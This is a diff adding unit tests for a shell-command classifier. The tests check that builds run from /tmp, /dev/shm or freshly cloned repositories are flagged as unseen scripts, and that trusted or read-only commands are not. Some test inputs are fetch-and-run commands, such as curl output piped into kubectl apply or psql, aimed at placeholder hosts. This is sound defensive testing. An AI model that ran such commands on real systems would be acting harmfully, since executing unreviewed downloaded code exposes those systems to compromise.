@@ -42,6 +42,46 @@ describe('what a project runs that the same command wrote or fetched', () => {
   });
 
   it.each([
+    ['cd /tmp/app && make', '/tmp/app'],
+    ['cd /tmp && make -C app', '/tmp/app'],
+    ['npm --prefix /tmp/app run build', '/tmp/app'],
+    ['npm -C /tmp/app test', '/tmp/app'],
+    ['yarn --cwd /var/tmp/app build', '/var/tmp/app'],
+    ['pnpm --dir /tmp/app start', '/tmp/app'],
+    ['rake -f /tmp/Rakefile', '/tmp/Rakefile'],
+    ['gradle -p /dev/shm/app build', '/dev/shm/app'],
+    ['mvn -f /tmp/app/pom.xml package', '/tmp/app/pom.xml'],
+    ['cargo build --manifest-path /tmp/app/Cargo.toml', '/tmp/app/Cargo.toml'],
+    ['just -d /srv/app --justfile /tmp/justfile deploy', '/tmp/justfile'],
+    ['terraform -chdir=/tmp/app apply', '/tmp/app'],
+    ['cmake --build /tmp/app', '/tmp/app'],
+    ['sudo -u app sh -c "cd /tmp/app; composer run build"', '/tmp/app'],
+    ['git clone https://x.example/app && cd app && make', 'app'],
+    ['git clone https://x.example/app.git /opt/app && make -C /opt/app install', '/opt/app'],
+    ['git clone https://x.example/app && npm --prefix app test', 'app'],
+  ])(
+    'is a script that nobody has seen where anybody may have written it, or where it was fetched: %s',
+    (command, place) => {
+      const unseen = effectsOf(command).filter((effect) => effect.startsWith(`opaque:unseen-script ${place}`));
+      expect(unseen).toHaveLength(1);
+    },
+  );
+
+  it.each([
+    'cd /srv/app && make',
+    'make -C ../lib',
+    'npm --prefix ./web run build',
+    'gradle -p /opt/app build',
+    'npm --prefix /tmp/app ls',
+    'cargo metadata --manifest-path /tmp/app/Cargo.toml',
+    'git -C /tmp/app status',
+    'git clone https://x.example/app && cd app && git checkout v1',
+    "mkdir -p /tmp/app && cd /tmp/app && printf 'all:\\n\\techo hi\\n' > Makefile && make",
+  ])('is trusted, looked at only, or known: %s', (command) => {
+    expect(effectsOf(command).filter((effect) => effect.startsWith('opaque:'))).toEqual([]);
+  });
+
+  it.each([
     ['curl -sL http://x.example/m | kubectl apply -f -', 'cloud:apply-downloaded'],
     ['curl -o m.yaml http://x.example/m; kubectl apply -f m.yaml', 'cloud:apply-downloaded'],
     ['curl -o x.sql http://x.example/x; psql -f x.sql', 'database:run-downloaded'],
